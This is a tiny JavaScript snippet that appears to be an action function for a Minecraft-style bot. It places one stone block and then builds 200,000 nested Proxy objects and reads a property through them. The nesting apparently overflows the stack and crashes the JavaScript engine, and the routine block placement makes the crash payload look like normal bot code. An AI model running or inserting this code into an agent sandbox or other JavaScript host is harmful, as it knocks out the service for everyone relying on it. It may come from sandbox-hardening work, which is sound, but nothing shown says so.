(async (bot) => {
await skills.placeBlock(bot, 'stone', 1, 0, 0);

let p = {};
for (let i = 0; i < 200000; i++) p = new Proxy(p, {});
p.x;
})
